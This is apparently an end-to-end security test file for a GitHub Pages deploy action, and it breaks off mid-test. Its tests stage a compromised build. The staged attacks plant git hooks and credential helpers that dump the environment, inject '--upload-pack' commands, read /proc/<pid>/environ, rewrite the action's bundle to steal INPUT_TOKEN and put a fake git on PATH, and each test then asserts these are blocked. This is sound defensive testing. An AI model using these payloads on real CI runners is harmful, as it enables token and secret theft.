// End to end: the site's install and build are untrusted code. Each test attacks for real, as a compromised package
// would, and checks what a user would: nothing stolen, nothing run, nothing left, the remote untouched when the step
// must fail, and a message that names the cause.
import { execFileSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import * as fs from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { FaultProxy } from '../support/fault-proxy.mjs';
import { recorder } from '../support/recorder.js';
import { VALID_TOKEN } from '../support/git-server.mjs';
import {
  expectNoSecretAnywhere,
  STATIC_SITE_FILES,
  tokenForms,
  staticJobWithPlaceholder,
  useEndToEnd,
} from '../support/e2e.js';
import { setDeployTarget } from '../support/hexo.mjs';
import { filesContaining, NODE, REPO_ROOT, runAction, type ActionResult, type Job } from '../support/run-action.mjs';
import { makeKey } from '../support/ssh-server.mjs';

// As github.com (github.io's address for the target): the link check, which the reading threads' tests below need,
// runs only for a site whose address is known.
const e2e = useEndToEnd({ asGitHubDotCom: true });

/** A repository with a live site, and a static-site job whose config holds the token's placeholder. */
const staticJob = (prefix: string): ReturnType<typeof staticJobWithPlaceholder> =>
  staticJobWithPlaceholder(e2e, prefix);

function deploy(
  work: Job,
  repo: string,
  inputs: Record<string, string>,
  options: { env?: Record<string, string>; cancel?: { whenExists: string } } = {},
): ReturnType<typeof runAction> {
  return runAction(work, {
    serverUrl: e2e.server.url,
    ...options,
    inputs: { token: VALID_TOKEN, repository: repo, 'config-file': 'site.conf', ...inputs },
  });
}

test('a hook planted where the temporary repository used to be is never run', async () => {
  const { repo, work } = await staticJob('hook');
  // The build creates the folder the publish step used to reuse, with a pre-push hook that records git's environment.
  const hook = '#!/bin/sh\nenv > "$HOME/stolen-by-hook"\n';
  const plant = [
    'for dir in "$RUNNER_TEMP"/pages-push-*; do',
    '  git init -q --bare "$dir/repo.git"',
    `  printf '%s' '${hook}' > "$dir/repo.git/hooks/pre-push"`,
    '  chmod +x "$dir/repo.git/hooks/pre-push"',
    'done',
  ].join('\n');

  const result = await deploy(work, repo, { build: plant });

  expect(result.errors).toEqual([]);
  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
  expect(existsSync(path.join(work.home, 'stolen-by-hook'))).toBe(false);
});

test('git config the build writes into HOME is not read by our git: no hook, no redirect, no helper, no proxy', async () => {
  const { repo, work } = await staticJob('gitconfig');
  const trap = await recorder();
  try {
    const hooks = path.join(work.home, 'hooks');
    const plant = [
      `mkdir -p "${hooks}"`,
      `printf '#!/bin/sh\\nenv > "$HOME/stolen-by-hook"\\n' > "${hooks}/pre-push"`,
      `chmod +x "${hooks}/pre-push"`,
      `git config --global core.hooksPath "${hooks}"`,
      `git config --global url."${trap.url}/".insteadOf "${e2e.server.url}/"`,
      `git config --global http.proxy "${trap.url}"`,
      `git config --global credential.helper '!f() { cat >> "$HOME/stolen-by-helper"; }; f'`,
    ].join(' && ');

    const result = await deploy(work, repo, { install: plant, build: 'skip' });

    expect(result.errors).toEqual([]);
    expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
    expect(trap.requests).toEqual([]);
    expect(['stolen-by-hook', 'stolen-by-helper'].filter((name) => existsSync(path.join(work.home, name)))).toEqual([]);
  } finally {
    await trap.stop();
  }
});

test('a deploy repo in _config.yml that is a git option runs nothing, and fails naming where it came from', async () => {
  const keysDir = await fs.mkdtemp(path.join(os.tmpdir(), 'pages-push-keys-'));
  try {
    const key = await makeKey(keysDir, 'attack');
    const work = await e2e.job();
    await setDeployTarget(work.workspace, '--upload-pack=touch${IFS}PWNED;echo:x', 'gh-pages');
    const hashed = execFileSync(
      'sh',
      ['-c', 'echo "x ssh-ed25519 AAAA" > kh && ssh-keygen -H -f kh >/dev/null 2>&1 && head -1 kh'],
      {
        cwd: keysDir,
        encoding: 'utf8',
      },
    );

    const result = await runAction(work, {
      serverUrl: e2e.server.url,
      inputs: {
        token: '',
        'deploy-key': key.privateKey,
        'known-hosts': `${hashed}\n* ssh-ed25519 AAAA`,
        build: 'skip',
      },
    });

    expect(result.exitCode).toBe(1);
    expect(result.errors[0]).toContain(`The repo in _config.yml's deploy is refused: it starts with "-"`);
    expect(execFileSync('find', [work.root, '-name', 'PWNED'], { encoding: 'utf8' })).toBe('');
  } finally {
    await fs.rm(keysDir, { recursive: true, force: true });
  }
});

test('the token is not sent to a host only the site config names', async () => {
  const trap = await recorder();
  try {
    const work = await e2e.job();
    await setDeployTarget(work.workspace, `${trap.url}/octo/blog.git`, 'gh-pages');

    const result = await runAction(work, {
      serverUrl: e2e.server.url,
      githubToken: VALID_TOKEN,
      inputs: { build: 'skip' },
    });

    expect(result.exitCode).toBe(1);
    expect(result.errors[0]).toContain(`set "repository: ${trap.url}/octo/blog.git"`);
    expect(trap.requests).toEqual([]);
  } finally {
    await trap.stop();
  }
});

test('a publish folder that is a link out of the workspace is refused, and nothing is pushed', async () => {
  const { repo, tip, work } = await staticJob('symlink');
  await fs.mkdir(path.join(work.home, '.ssh'));
  await fs.writeFile(path.join(work.home, '.ssh', 'id_rsa'), 'a private key of the runner\n');

  const result = await deploy(work, repo, { build: 'rm -rf public && ln -s "$HOME" public' });

  expect(result.exitCode).toBe(1);
  expect(result.errors[0]).toContain('Input "publish-dir" must stay inside the workspace');
  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
});

test('the post step deletes no folder but the one the main step made and proved', async () => {
  const { repo, work } = await staticJob('state');
  const precious = path.join(work.home, 'precious');
  // The build finds the step's state file and names another folder as the one to delete.
  const plant = [
    `mkdir -p "${precious}" && echo keep > "${precious}/file"`,
    `echo "\${GITHUB_STATE:-no GITHUB_STATE}" > "$HOME/state-variable"`,
    `for file in "${work.root}"/state-*; do printf 'tempDir=%s\\n' "${precious}" >> "$file"; done`,
  ].join(' && ');

  const result = await deploy(work, repo, { build: plant });

  expect(result.errors).toEqual([]);
  expect(await fs.readFile(path.join(precious, 'file'), 'utf8')).toBe('keep\n');
  expect(result.post?.warnings).toEqual([
    `Not deleting ${precious}: it is not the temporary folder the main step made.`,
  ]);
  expect(await fs.readFile(path.join(work.home, 'state-variable'), 'utf8')).toBe('no GITHUB_STATE\n');
});

test('a failed build with an explicit publish-dir leaves no token in it', async () => {
  const { repo, tip, work } = await staticJob('failed');

  const result = await deploy(work, repo, { build: 'cp site.conf public/leak.txt && exit 4', 'publish-dir': 'public' });

  expect(result.exitCode).toBe(1);
  expect(result.errors[0]).toContain('failed with exit code 4');
  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
  expect(await fs.readFile(path.join(work.workspace, 'public', 'leak.txt'), 'utf8')).toBe(
    'token: GITHUB_ACCESS_TOKEN\n',
  );
  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
});

test('a background process the build started is stopped with it, before it can write the token anywhere', async () => {
  const { repo, work } = await staticJob('background');
  const late = path.join(work.home, 'late.txt');
  const build = `token=$(cat site.conf); (sleep 2; echo "$token" > "${late}") > /dev/null 2>&1 & echo started`;

  const result = await deploy(work, repo, { build });
  await new Promise((resolve) => setTimeout(resolve, 3000));

  expect(result.errors).toEqual([]);
  expect(existsSync(late)).toBe(false);
  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
});

test('a job cancelled during the build stops it, restores the config and leaves no token anywhere', async () => {
  const { repo, tip, work } = await staticJob('cancel');
  const ready = path.join(work.home, 'ready');
  const late = path.join(work.home, 'late.txt');
  const build = [
    'cp site.conf public/copy.txt',
    `token=$(cat site.conf); (sleep 3; echo "$token" > "${late}") > /dev/null 2>&1 &`,
    `touch "${ready}"`,
    'sleep 60',
  ].join('\n');

  const result = await deploy(work, repo, { build }, { cancel: { whenExists: ready } });
  await new Promise((resolve) => setTimeout(resolve, 4000));

  expect(result.signals).toEqual(['SIGINT']);
  expect(result.exitCode).toBe(1);
  expect(result.errors[0]).toContain('The job was cancelled (SIGINT) while the build command');
  expect(await fs.readFile(path.join(work.workspace, 'site.conf'), 'utf8')).toBe('token: GITHUB_ACCESS_TOKEN\n');
  expect(existsSync(late)).toBe(false);
  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
  expect(await fs.readdir(work.runnerTemp)).toEqual([]);
  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
});

test('a main step killed outright: the post step stops its build, restores the config and scrubs the workspace', async () => {
  const { repo, work } = await staticJob('killed');
  const ready = path.join(work.home, 'ready');
  const late = path.join(work.home, 'late.txt');
  // A build that ignores SIGINT and SIGTERM would keep the main step alive until SIGKILL; here the action itself
  // is stopped before it can clean up: only the post step is left to stop the build and clean up.
  const build = [
    'cp site.conf public/copy.txt',
    `token=$(cat site.conf); (sleep 4; echo "$token" > "${late}") > /dev/null 2>&1 &`,
    `touch "${ready}"`,
    'sleep 60',
  ].join('\n');

  const result = await runAction(work, {
    serverUrl: e2e.server.url,
    cancel: { whenExists: ready, signals: ['SIGKILL'] },
    inputs: { token: VALID_TOKEN, repository: repo, 'config-file': 'site.conf', build },
  });
  await new Promise((resolve) => setTimeout(resolve, 5000));

  expect(result.signals).toEqual(['SIGKILL']);
  expect(existsSync(late)).toBe(false);
  expect(result.post?.stdout).toContain('Stopped 1 user command(s) the main step left running');
  expect(result.post?.stdout).toContain('Restored 1 config file(s) the main step had not restored.');
  expect(await fs.readFile(path.join(work.workspace, 'site.conf'), 'utf8')).toBe('token: GITHUB_ACCESS_TOKEN\n');
  expect(await fs.readFile(path.join(work.workspace, 'public', 'copy.txt'), 'utf8')).toBe(
    'token: GITHUB_ACCESS_TOKEN\n',
  );
  expect(await fs.readdir(work.runnerTemp)).toEqual([]);
  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
});

test('a job cancelled while our git is stuck gets SIGINT, SIGTERM and SIGKILL, and the post step leaves nothing', async () => {
  const repo = e2e.repoName('stuck');
  await e2e.server.createRepo(repo);
  const tip = await e2e.server.commit(repo, 'gh-pages', { 'index.html': 'live\n' });
  const work = await e2e.job();
  const built = path.join(work.home, 'built');
  const stuck = path.join(work.home, 'stuck');
  // Once the site is built, the server accepts every fetch and never answers: hexo deploy's .deploy_git is being
  // seeded by our own git, with the token in the config, when the job is cancelled. Our git does not end at SIGINT
  // or SIGTERM (a network-timeout of a minute), so the runner's SIGKILL ends the step.
  const proxy = await FaultProxy.start(e2e.server.port, [
    {
      match: (request) => {
        if (!existsSync(built) || !(request.url ?? '').includes('git-upload-pack')) return false;
        writeFileSync(stuck, '');
        return true;
      },
      action: 'stall',
    },
  ]);
  try {
    const original = await setDeployTarget(work.workspace, `${proxy.url}/${repo}.git`, 'gh-pages');

    const result = await runAction(work, {
      serverUrl: proxy.url,
      repository: 'octo/sources',
      githubToken: VALID_TOKEN,
      cancel: { whenExists: stuck },
      inputs: {
        build: `npx hexo generate && touch "${built}"`,
        'deploy-command': 'npx hexo deploy',
        'network-timeout': '60',
      },
    });

    expect(result.signals).toEqual(['SIGINT', 'SIGTERM', 'SIGKILL']);
    expect(result.post?.stdout).toContain('Restored 1 config file(s) the main step had not restored.');
    expect(await fs.readFile(path.join(work.workspace, '_config.yml'), 'utf8')).toBe(original);
    expect(await fs.readdir(work.runnerTemp)).toEqual([]);
    expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
    await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN), { server: e2e.server, repo });
  } finally {
    await proxy.stop();
  }
});

test.each([
  ['gzip file of the site', 'gzipSync', 'config.txt.gz', 0],
  ['brotli file of the site', 'brotliCompressSync', 'config.txt.br', 0],
  ['gzip file of the site that unpacks to over 64 MiB (near its start)', 'gzipSync', 'archive.txt.gz', 100],
])('the leak guard finds the token inside a %s', async (_format, compress, name, paddingMiB) => {
  const { repo, tip, work } = await staticJob(`packed-${name.slice(-2)}`);
  await fs.writeFile(
    path.join(work.workspace, 'pack.mjs'),
    [
      `import { ${compress} } from 'node:zlib';`,
      "import { readFileSync, writeFileSync } from 'node:fs';",
      // A page's worth of text, as a precompressed page is: the stream is really compressed, the token not in it as is.
      "const text = Buffer.from(readFileSync('site.conf', 'utf8').repeat(50));",
      `const padded = Buffer.concat([text, Buffer.alloc(${paddingMiB} * 1024 * 1024)]);`,
      `writeFileSync('public/${name}', ${compress}(padded));`,
    ].join('\n'),
  );

  const result = await deploy(work, repo, { build: 'node pack.mjs' });

  expect(result.exitCode).toBe(1);
  expect(result.errors[0]).toContain(
    `Refusing to publish: a file of the site contains the token or the deploy key: ${path.join('public', name)}`,
  );
  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
  // No byte replacement reaches the token inside the compressed stream: the file is emptied instead.
  expect((await fs.stat(path.join(work.workspace, 'public', name))).size).toBe(0);
});

test("the user's commands get none of the runner's internal tokens", async () => {
  const { repo, work } = await staticJob('runner-tokens');
  const env = {
    ACTIONS_RUNTIME_TOKEN: 'runtime-token-value',
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-token-value',
    ACTIONS_ID_TOKEN_REQUEST_URL: 'https://oidc.example/token',
    ACTIONS_CACHE_URL: 'https://cache.example/',
    ACTIONS_RESULTS_URL: 'https://results.example/',
  };

  const result = await deploy(work, repo, { build: 'env > "$HOME/build-env"' }, { env });

  expect(result.errors).toEqual([]);
  const seen = await fs.readFile(path.join(work.home, 'build-env'), 'utf8');
  expect(Object.keys(env).filter((name) => seen.includes(name))).toEqual([]);
});

test('a .git folder of the publish folder is not published, in any case', async () => {
  const { repo, work } = await staticJob('dotgit');

  const result = await deploy(work, repo, {
    build: 'mkdir -p public/.GIT public/docs/.Git && echo x > public/.GIT/config && echo y > public/docs/.Git/HEAD',
  });

  expect(result.errors).toEqual([]);
  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
});

/** Whether the Node that runs the bundle can start itself over (process.execve: Node 22.15 and later). */
const canShed = execFileSync(NODE, ['-p', 'typeof process.execve'], { encoding: 'utf8' }).trim() === 'function';

/**
 * A preload that makes the kernel refuse the action's write to its own memory (/proc/self/mem), as a hardened kernel
 * may: the main step then takes its other way to shed the secrets, the start over (hardening/reexec.ts).
 */
const REFUSE_OWN_MEMORY = [
  "const fs = require('node:fs');",
  'const open = fs.openSync;',
  'fs.openSync = (file, ...rest) => {',
  "  if (file === '/proc/self/mem') throw Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' });",
  '  return open(file, ...rest);',
  '};',
  '',
].join('\n');

/** What the build records of its parent, the action's process: its environment and its arguments, a line each. */
const RECORD_PARENT = [
  `tr '\\0' '\\n' < /proc/$PPID/environ > "$HOME/parent-env"`,
  `tr '\\0' '\\n' < /proc/$PPID/cmdline > "$HOME/parent-args"`,
].join(' && ');

test("the user's commands cannot read the inputs from the action's own environment (/proc/<pid>/environ)", async () => {
  const { repo, work } = await staticJob('environ');

  const result = await deploy(
    work,
    repo,
    { build: RECORD_PARENT },
    {
      env: { ACTIONS_RUNTIME_TOKEN: 'runtime-token-value' },
    },
  );

  expect(result.errors).toEqual([]);
  const seen = await fs.readFile(path.join(work.home, 'parent-env'), 'utf8');
  expect(seen).toContain('GITHUB_WORKSPACE=');
  expect(seen.split('\n').filter((line) => /^(INPUT_|ACTIONS_RUNTIME_TOKEN)/.test(line))).toEqual([]);
  // Nor from what is left where they were: the bytes are overwritten, not only forgotten.
  expect(seen).not.toContain(VALID_TOKEN);
  expect(seen).not.toContain('runtime-token-value');
  // One process, not started over: the runner's own command line.
  expect((await fs.readFile(path.join(work.home, 'parent-args'), 'utf8')).split('\n')).not.toContain(
    '--disable-sigusr1',
  );
  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
  expect(await filesContaining(work.root, tokenForms(VALID_TOKEN))).toEqual([]);
  expect(await fs.readdir(work.runnerTemp)).toEqual([]);
});

test('where the kernel refuses the write to its own memory, the main step starts over without the inputs', async () => {
  if (!canShed) {
    console.log(`SKIPPED: ${NODE} has no process.execve (Node 22.15+); the action's runtime, Node 24, has it.`);
    return;
  }
  const { repo, work } = await staticJob('environ-refused');
  const preload = path.join(work.root, 'refuse-own-memory.cjs');
  await fs.writeFile(preload, REFUSE_OWN_MEMORY);

  const result = await deploy(
    work,
    repo,
    { build: RECORD_PARENT },
    { env: { ACTIONS_RUNTIME_TOKEN: 'runtime-token-value', NODE_OPTIONS: `--require ${preload}` } },
  );

  expect(result.errors).toEqual([]);
  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
  const seen = await fs.readFile(path.join(work.home, 'parent-env'), 'utf8');
  expect(seen).toContain('GITHUB_WORKSPACE=');
  expect(seen).not.toContain(VALID_TOKEN);
  expect(seen).not.toContain('runtime-token-value');
  // The build's parent is the new image, which got the inputs through a file, deleted at once.
  expect((await fs.readFile(path.join(work.home, 'parent-args'), 'utf8')).split('\n')).toContain('--disable-sigusr1');
  expect(await fs.readdir(work.runnerTemp)).toEqual([]);
  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
});

test('a main step whose new image ends as it starts leaves no inputs on disk, and its post step deploys nothing', async () => {
  if (!canShed) {
    console.log(`SKIPPED: ${NODE} has no process.execve (Node 22.15+); the action's runtime, Node 24, has it.`);
    return;
  }
  const { repo, tip, work } = await staticJob('ended-at-start');
  // Loaded before the bundle by every Node of the step: the kernel refuses the write that sheds the secrets in place,
  // and the new image of the start over ends before it can read its inputs back, as a runtime refusing a flag, or a
  // job cancelled in that instant, would.
  const preload = path.join(work.root, 'end-new-image.cjs');
  await fs.writeFile(
    preload,
    `${REFUSE_OWN_MEMORY}if (process.argv.some((arg) => arg.startsWith('--pages-push-inputs='))) process.exit(7);\n`,
  );

  const result = await deploy(work, repo, {}, { env: { NODE_OPTIONS: `--require ${preload}` } });

  expect(result.exitCode).toBe(7);
  expect(result.post?.exitCode).toBe(0);
  expect(result.post?.stdout).toContain('Deleted the inputs a main step that ended as it started left behind.');
  expect(await e2e.server.tip(repo, 'gh-pages')).toBe(tip);
  expect(await fs.readdir(work.runnerTemp)).toEqual([]);
  await expectNoSecretAnywhere(work, result, tokenForms(VALID_TOKEN));
});

/** The build records its parent's environment and arguments, and its own environment. */
const RECORD_ALL = [RECORD_PARENT, 'env > "$HOME/build-env"'].join(' && ');
const recorded = async (work: Job, name: string): Promise<string[]> =>
  (await fs.readFile(path.join(work.home, name), 'utf8')).split('\n');
/** A preload that notes the V8 flags the action sets as it runs, as the runtime gets them. */
const RECORD_FLAGS = [
  "const v8 = require('node:v8');",
  'const set = v8.setFlagsFromString;',
  'v8.setFlagsFromString = (flags) => {',
  "  require('node:fs').appendFileSync(`${process.env.HOME}/action-flags`, `${flags}\\n`);",
  '  return set(flags);',
  '};',
  '',
].join('\n');

test("the action's own memory settings reach it, not the user's commands; the job's own setting is kept", async () => {
  const record = RECORD_ALL;
  const read = recorded;
  // One process: the heap's settings are set as it runs, once its code is loaded (as flags at the start, they cost
  // every start the runtime's cached code for its own modules), and nothing is added to any environment.
  const own = await staticJob('malloc');
  const preload = path.join(own.work.root, 'record-flags.cjs');
  await fs.writeFile(preload, RECORD_FLAGS);
  const result = await deploy(own.work, own.repo, { build: record }, { env: { NODE_OPTIONS: `--require ${preload}` } });

  expect(result.errors).toEqual([]);
  expect(await read(own.work, 'action-flags')).toEqual([
    '--no-allocation-site-pretenuring --semi-space-growth-factor=1 --heap-growing-percent=30',
    '',
  ]);
  expect((await read(own.work, 'parent-env')).filter((line) => line.startsWith('MALLOC_ARENA_MAX='))).toEqual([]);
  expect((await read(own.work, 'build-env')).filter((line) => line.startsWith('MALLOC_ARENA_MAX='))).toEqual([]);

  // A job that sets it keeps its own value, for the action and for the build.
  const job = await staticJob('malloc-job');
  const withJob = await deploy(job.work, job.repo, { build: record }, { env: { MALLOC_ARENA_MAX: '4' } });

  expect(withJob.errors).toEqual([]);
  expect(await read(job.work, 'parent-env')).toContain('MALLOC_ARENA_MAX=4');
  expect(await read(job.work, 'build-env')).toContain('MALLOC_ARENA_MAX=4');
});

test('started over, the action starts with its memory settings and takes them out of what it passes on', async () => {
  if (!canShed) {
    console.log(`SKIPPED: ${NODE} has no process.execve (Node 22.15+); the action's runtime, Node 24, has it.`);
    return;
  }
  const record = RECORD_ALL;
  const read = recorded;
  // Started over (the kernel refused the write to its own memory): the new image starts with the heap's limits and
  // glibc's single arena (read at the start), and takes the arena's setting out of what it passes on.
  const over = await staticJob('malloc-over');
  const both = path.join(over.work.root, 'refuse-and-record.cjs');
  await fs.writeFile(both, REFUSE_OWN_MEMORY + RECORD_FLAGS);
  const started = await deploy(over.work, over.repo, { build: record }, { env: { NODE_OPTIONS: `--require ${both}` } });

  expect(started.errors).toEqual([]);
  expect(await read(over.work, 'parent-env')).toContain('MALLOC_ARENA_MAX=1');
  const args = await read(over.work, 'parent-args');
  expect(args).toEqual(expect.arrayContaining(['--max-semi-space-size=2', '--max-old-space-size=1024']));
  expect(args).not.toContain('--no-allocation-site-pretenuring');
  expect(await read(over.work, 'action-flags')).toEqual(['--no-allocation-site-pretenuring', '']);
  expect((await read(over.work, 'build-env')).filter((line) => line.startsWith('MALLOC_ARENA_MAX='))).toEqual([]);
});

test("a hook the build plants in HOME's git config is not run by the deploy command's git", async () => {
  const { repo, work } = await staticJob('deploy-hook');
  const plant = [
    'mkdir -p "$HOME/hooks"',
    `printf '#!/bin/sh\\nenv > "$HOME/stolen-by-hook"\\n' > "$HOME/hooks/pre-push"`,
    'chmod +x "$HOME/hooks/pre-push"',
    'git config --global core.hooksPath "$HOME/hooks"',
  ].join(' && ');
  const deployCommand = [
    'cd public && git init -q && git add -A',
    'git -c user.name=x -c user.email=x@example.com commit -qm site',
    `git push -q "${e2e.server.repoUrl(repo)}" HEAD:refs/heads/gh-pages --force`,
  ].join(' && ');

  const result = await deploy(work, repo, { build: plant, 'deploy-command': deployCommand });

  expect(result.errors).toEqual([]);
  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(['assets/run.sh', 'assets/style.css', 'index.html']);
  expect(existsSync(path.join(work.home, 'stolen-by-hook'))).toBe(false);
});

test('a .deploy_git whose config runs a command (core.fsmonitor) runs nothing: not in our git, not in hexo deploy', async () => {
  const repo = e2e.repoName('fsmonitor');
  await e2e.server.createRepo(repo);
  const work = await e2e.job();
  await setDeployTarget(work.workspace, e2e.server.repoUrl(repo), 'gh-pages');
  const payload = path.join(work.home, 'fsmonitor.sh');
  await fs.writeFile(payload, '#!/bin/sh\nenv > "$HOME/fsmonitor-ran"\n', { mode: 0o755 });
  const build = `npx hexo generate && git init -q .deploy_git && git -C .deploy_git config core.fsmonitor "${payload}"`;

  const result = await runAction(work, {
    serverUrl: e2e.server.url,
    repository: 'octo/sources',
    githubToken: VALID_TOKEN,
    inputs: { build, 'deploy-command': 'npx hexo deploy' },
  });

  expect(result.errors).toEqual([]);
  expect(await e2e.server.tip(repo, 'gh-pages')).not.toBe('');
  expect(existsSync(path.join(work.home, 'fsmonitor-ran'))).toBe(false);
});

/**
 * A Hexo blog deployed with a token by the action run from a copy of dist/ (the runner runs it from a folder the
 * job's user may write, as the site's commands run), whose build rewrites every chunk holding `marker` with code
 * that writes the token to `ran`: a chunk module, so the plant writes as an ES module would.
 */
async function deployRewritingChunks(
  name: string,
  marker: string,
): Promise<{ repo: string; result: ActionResult; ran: string }> {
  const repo = e2e.repoName(name);
  await e2e.server.createRepo(repo);
  const work = await e2e.job();
  await setDeployTarget(work.workspace, e2e.server.repoUrl(repo), 'gh-pages');
  const dist = path.join(work.root, 'action', 'dist');
  await fs.cp(path.join(REPO_ROOT, 'dist'), dist, { recursive: true });
  const ran = path.join(work.root, 'planted-ran');
  const plant = `import("node:fs").then((fs) => fs.writeFileSync(${JSON.stringify(ran)}, String(process.env.INPUT_TOKEN)));`;
  const build =
    `node_modules/.bin/hexo generate && for chunk in $(grep -l "${marker}" "${dist}"/*.index.js); do ` +
    `printf '%s' '${plant}' > "$chunk"; echo "rewrote $chunk"; done`;
  const result = await runAction(work, {
    serverUrl: e2e.server.url,
    inputs: { token: VALID_TOKEN, build },
    bundle: path.join(dist, 'index.js'),
  });
  return { repo, result, ran };
}

test("a build that rewrites the action's dist/ runs none of it in the deploy: the chunks it needs were loaded before", async () => {
  // The default message's clock (Luxon, its own chunk) is used after the build, in the process that holds the token.
  const { repo, result, ran } = await deployRewritingChunks('rewritten-dist', 'class DateTime');

  expect(result.log).toMatch(/rewrote .*\.index\.js/);
  expect(result.errors).toEqual([]);
  expect(existsSync(ran)).toBe(false);
  const [commit] = await e2e.server.log(repo, 'gh-pages');
  expect(commit?.message).toMatch(/^Site updated: \d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}\n?$/);
});

test("a build that rewrites the API client's chunk of dist/ runs none of it: the Pages read loaded it before", async () => {
  // The Pages settings are read beside the target check, by Octokit (a chunk of its own, loaded then even where the
  // read cannot be made, as through a proxy an old Node cannot use); the push's report and page-url use that client
  // after the build, in the process that holds the token.
  const { repo, result, ran } = await deployRewritingChunks('rewritten-api-chunk', 'octokit-core.js');

  expect(result.log).toMatch(/rewrote .*\.index\.js/);
  expect(result.errors).toEqual([]);
  expect(existsSync(ran)).toBe(false);
  expect(await e2e.server.tip(repo, 'gh-pages')).not.toBe('');
});

// Was a hole: a site of 4,000 files or more is read with worker threads, which were started from the action's
// dist/index.js (in its reading mode) after the build; a build that rewrote it ran its own code in the deploy's
// process, where the token is, and where /proc/self/mem reads it.
test("a build that rewrites the action's dist/ runs none of it in the threads that read a large site", async () => {
  const { repo, work } = await staticJob('rewritten-reader');
  const dist = path.join(work.root, 'action', 'dist');
  await fs.cp(path.join(REPO_ROOT, 'dist'), dist, { recursive: true });
  const ran = path.join(work.root, 'planted-ran');
  // Runs in any thread but a process's main one: the post step, which runs dist/ again (security.md says so), is
  // not what this test is about.
  const plant =
    'import { writeFileSync } from "node:fs"; import { isMainThread } from "node:worker_threads"; ' +
    `if (!isMainThread) writeFileSync(${JSON.stringify(ran)}, "ran");`;
  // Pages enough for reading workers (4,000 files), each with a root link, which the workers parse.
  const build = [
    'mkdir -p public/many && for i in $(seq 1 4500); do printf \'<a href="/many/%s.html">x</a>\' $i > public/many/$i.html; done',
    `for file in "${dist}"/*.js "${dist}"/*/*.js; do if [ -f "$file" ]; then printf '%s' '${plant}' > "$file"; fi; done`,
    'echo "rewrote dist"',
  ].join(' && ');

  const result = await runAction(work, {
    serverUrl: e2e.server.url,
    inputs: { token: VALID_TOKEN, repository: repo, 'config-file': 'site.conf', build },
    bundle: path.join(dist, 'index.js'),
    env: { RUNNER_DEBUG: '1' },
  });

  expect(result.log).toContain('rewrote dist');
  expect(result.errors).toEqual([]);
  expect(existsSync(ran)).toBe(false);
  // The workers did read and parse: from the code read before the build.
  const [, parsed = '0', byWorkers = '0'] =
    /link check: (\d+) files parsed \((\d+) by reading workers\)/.exec(result.log) ?? [];
  expect(Number(parsed)).toBe(4500);
  expect(Number(byWorkers)).toBeGreaterThan(0);
  expect(result.warnings).toHaveLength(1);
  const paths = await e2e.server.paths(repo, 'gh-pages');
  expect(paths.filter((file) => file.startsWith('many/'))).toHaveLength(4500);
  expect(paths.filter((file) => !file.startsWith('many/'))).toEqual(STATIC_SITE_FILES);
});

// Was a hole: our git was looked up on PATH at each run of it, so a build that wrote a `git` into a folder PATH names
// before the system's (the tool cache's `bin` folder, which setup-node puts first, and which the runner's user may
// write) had the push run it, with the token in its environment.
test('a git the build writes into a folder first on PATH is not the one our push runs', async () => {
  const { repo, work } = await staticJob('planted-git');
  const bin = path.join(work.root, 'tool-cache-bin');
  await fs.mkdir(bin);
  const realGit = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
  const stolen = path.join(work.root, 'stolen-by-git');
  // It passes every call on to the real git: the deploy works as if nothing happened, as an attacker would have it.
  const fake = `#!/bin/sh\n[ -n "$PLANTED_BY_BUILD" ] || env >> '${stolen}'\nexec '${realGit}' "$@"\n`;
  await fs.writeFile(path.join(work.workspace, 'planted-git'), fake);
  const build = `cp planted-git "${bin}/git" && chmod +x "${bin}/git" && PLANTED_BY_BUILD=1 "${bin}/git" --version`;

  const result = await deploy(work, repo, { build }, { env: { PATH: `${bin}${path.delimiter}${process.env.PATH}` } });

  expect(result.log).toMatch(/git version \d/); // the build ran the planted git: it works
  expect(result.errors).toEqual([]);
  expect(await e2e.server.paths(repo, 'gh-pages')).toEqual(STATIC_SITE_FILES);
  // Our push (and the target check, and the post step) never ran it.
  expect(existsSync(stolen)).toBe(false);
});

// Was a hole (found by an attacker's review of the change above): Node loads the preloads of NODE_OPTIONS
// (`--require`, `--import`) again, from their files, in every worker thread it starts. A workflow whose NODE_OPTIONS
// preloads a file of the workspace (`-r dotenv/config`, `-r ./.pnp.cjs`, `--import tsx`) had a build that rewrote it
// run its code in the reading threads of a site of 4,000 files or more, in the deploy's process.
test('a build that rewrites a file NODE_OPTIONS preloads runs none of it in the threads that read a large site', async () => {
  const { repo, work } = await staticJob('preload-reader');
  const preload = path.join(work.workspace, 'preload.cjs');
  await fs.writeFile(preload, '// harmless at the start of the step\n');
  const stolen = path.join(work.root, 'stolen-by-preload');
  const planted =
    `if (!require("node:worker_threads").isMainThread) require("node:fs").writeFileSync(${JSON.stringify(stolen)}, ` +
    'String(process.env.INPUT_TOKEN));';
  await fs.writeFile(path.join(work.workspace, 'planted.cjs'), planted);
  const build = [
    'mkdir -p public/many && for i in $(seq 1 4500); do printf \'<a href="/many/%s.html">x</a>\' $i > public/many/$i.html; done',
    `cp planted.cjs "${preload}"`,
    'echo "rewrote the preload"',
  ].join(' && ');

  const result = await deploy(
    work,
    repo,
    { build },
    { env: { NODE_OPTIONS: `--require ${preload}`, RUNNER_DEBUG: '1' } },
  );

